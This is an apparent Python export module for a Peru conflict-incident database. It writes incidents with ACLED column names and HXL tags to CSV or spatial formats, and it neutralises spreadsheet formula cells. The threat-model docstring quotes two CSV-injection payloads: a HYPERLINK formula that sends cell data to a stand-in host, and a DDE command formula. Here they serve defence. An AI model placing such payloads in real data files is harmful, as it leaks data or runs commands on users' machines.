"""Write incidents back out with ACLED's column names: CSV, GeoJSON or GeoPackage.

Threat line for CSV: titles, notes, place and actor names are typed by Editors or come from
imported files and bulletins; opened in a spreadsheet, a cell such as `=HYPERLINK("http://x/?"
&A1, "click")` or `=cmd|' /C calc'!A0` would run as a formula on the analyst's machine. Every
CSV this application writes goes through `csv_row`, which neutralises such cells.
"""
import geopandas as gpd
import pandas as pd
import shapely

from security.untrusted import refuse_gdal_path

from ..selectors import incidents_for_export

FORMATS = ("csv", "geojson", "gpkg")
# What GDAL writes for each spatial format (the API's downloads add KML: #15 part 4).
DRIVERS = {"geojson": "GeoJSON", "gpkg": "GPKG", "kml": "KML"}
COLUMNS = ["event_id_cnty", "event_date", "year", "time_precision", "event_type", "sub_event_type",
           "actor1", "actor2", "country", "admin1", "admin2", "admin3", "location", "latitude",
           "longitude", "geo_precision", "source", "notes", "fatalities",
           # Not in ACLED; kept so a round trip loses nothing.
           "injuries", "title", "status", "area_level", "admin1_ubigeo", "admin2_ubigeo",
           "admin3_ubigeo", "external_source",
           # The dataset, its licence and citation travel with every row (#13 part 5).
           "dataset", "licence", "licence_url", "citation"]


# HXL hashtags (https://hxlstandard.org) for each column, for humanitarian data tools.
HXL_TAGS = {
    "event_id_cnty": "#event+code", "event_date": "#date+occurred", "year": "#date+year",
    "time_precision": "#date+precision", "event_type": "#event+type",
    "sub_event_type": "#event+type+sub", "actor1": "#group+name+first",
    "actor2": "#group+name+second", "country": "#country+name", "admin1": "#adm1+name",
    "admin2": "#adm2+name", "admin3": "#adm3+name", "location": "#loc+name",
    "latitude": "#geo+lat", "longitude": "#geo+lon", "geo_precision": "#geo+precision",
    "source": "#meta+source", "notes": "#description", "fatalities": "#affected+killed",
    "injuries": "#affected+injured", "title": "#event+title", "status": "#status",
    "area_level": "#geo+level", "admin1_ubigeo": "#adm1+code", "admin2_ubigeo": "#adm2+code",
    "admin3_ubigeo": "#adm3+code", "external_source": "#meta+dataset",
    "dataset": "#meta+dataset+code", "licence": "#meta+licence", "licence_url": "#meta+licence+url",
    "citation": "#meta+citation",
}


def acled_row(incident) -> dict:
    """One incident as ACLED-named columns (COLUMNS); needs actors and sources prefetched
    (and the dataset selected)."""
    actors = [a.name for a in incident.actors.all()]
    areas = (incident.department, incident.province, incident.district)
    return {
        "event_id_cnty": incident.external_id or f"VRAEM{incident.pk}",
        "event_date": incident.occurred_on.isoformat(),
        "year": incident.occurred_on.year,
        "time_precision": incident.date_precision,
        "event_type": incident.event_type,
        "sub_event_type": incident.sub_event_type,
        "actor1": actors[0] if actors else "",
        "actor2": actors[1] if len(actors) > 1 else "",
        "country": "Peru",
        **{f"admin{n}": a.name if a else "" for n, a in enumerate(areas, 1)},
        "location": incident.location_name,
        "latitude": incident.location.y,  # full precision: a round trip moves nothing
        "longitude": incident.location.x,
        "geo_precision": incident.geo_precision,
        "source": "; ".join(s.name for s in incident.sources.all()),
        "notes": incident.description,
        "fatalities": incident.fatalities,
        "injuries": incident.injuries,
        "title": incident.title,
        "status": incident.status,
        "area_level": incident.area_level,
        **{f"admin{n}_ubigeo": a.ubigeo if a else "" for n, a in enumerate(areas, 1)},
        "external_source": incident.external_source,
        "dataset": incident.dataset.slug,
        "licence": incident.dataset.licence_name,
        "licence_url": incident.dataset.licence_url,
        "citation": incident.dataset.citation,
    }


# What makes a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _looks_like_formula(text: str) -> bool:
    # Leading apostrophes are skipped, so that a text that already starts with "'=" is quoted
    # again: then `restore_cell` undoes exactly what `neutralise_cell` did, for every text.
    return text.lstrip("'")[:1] in FORMULA_STARTS


def neutralise_cell(value):
    """A text cell a spreadsheet would run as a formula gets a leading apostrophe (OWASP's
    advice; the apostrophe itself is not shown by spreadsheets).

    Only text is changed: numbers stay numbers, so a negative longitude (-73.83, a float here)
    is written as it is and still sorts and sums as a number. A text cell that happens to hold
    "-3" is quoted, as it would be by any other text."""
    return "'" + value if isinstance(value, str) and _looks_like_formula(value) else value


def restore_cell(text: str) -> str:
    """The inverse of `neutralise_cell` for a CSV cell read back (import of an export)."""
    return text[1:] if text.startswith("'") and _looks_like_formula(text) else text


def csv_row(incident) -> dict:
    """`acled_row` with every text cell neutralised for spreadsheets: what CSV files hold."""
    return {column: neutralise_cell(value) for column, value in acled_row(incident).items()}


def frame_of(incidents, *, row=acled_row) -> pd.DataFrame:
    """The incidents as ACLED-named columns; `incidents` must have actors and sources
    prefetched and the areas and dataset selected (incidents_for_export does)."""
    frame = pd.DataFrame([row(i) for i in incidents], columns=COLUMNS)
    return frame.astype({"fatalities": "Int64", "injuries": "Int64"})


def incidents_frame(*, status: str | None = None, row=acled_row, public: bool = False) -> pd.DataFrame:
    return frame_of(incidents_for_export(status=status, public=public), row=row)


def _write_spatial(frame: pd.DataFrame, path: str, format: str) -> None:
    geometry = shapely.points(frame["longitude"].astype(float), frame["latitude"].astype(float))
    gdf = gpd.GeoDataFrame(frame, geometry=geometry, crs=4326)
    options = {"gpkg": {"layer": "incidents"},
               # Google Earth shows the placemark's name and description: the title and notes.
               "kml": {"layer": "incidents",
                       "dataset_options": {"NameField": "title", "DescriptionField": "notes"}}}
    gdf.to_file(path, driver=DRIVERS[format], engine="pyogrio", **options.get(format, {}))


def write_incidents(incidents, *, path: str, format: str) -> int:
    """Write already filtered incidents (a queryset, e.g. the API's list) to a local `path`
    as GeoJSON, GeoPackage or KML; returns how many. The caller has applied visibility."""
    if format not in DRIVERS:
        raise ValueError(f"format {format!r} is not one of {', '.join(DRIVERS)}")
    refuse_gdal_path(path)
    rows = incidents.select_related("department", "province", "district", "dataset").prefetch_related(
        "actors", "sources")
    frame = frame_of(rows.iterator(chunk_size=2000))
    _write_spatial(frame, path, format)
    return len(frame)


def export_incidents(*, path: str, format: str, status: str | None = None,
                     public: bool = False) -> int:
    """Write the incidents to `path`; returns how many. A URL or GDAL virtual file system
    path (/vsicurl/…) is refused (security.untrusted.UnsafePath): the output is a local file.
    `public`: only what an anonymous reader may have (published; restricted datasets such as
    ACLED left out unless RESTRICTED_DATASETS_PUBLIC)."""
    if format not in FORMATS:
        raise ValueError(f"format {format!r} is not one of {', '.join(FORMATS)}")
    refuse_gdal_path(path)
    if format == "csv":
        frame = incidents_frame(status=status, row=csv_row, public=public)
        frame.to_csv(path, index=False)
        return len(frame)
    frame = incidents_frame(status=status, public=public)
    _write_spatial(frame, path, format)
    return len(frame)
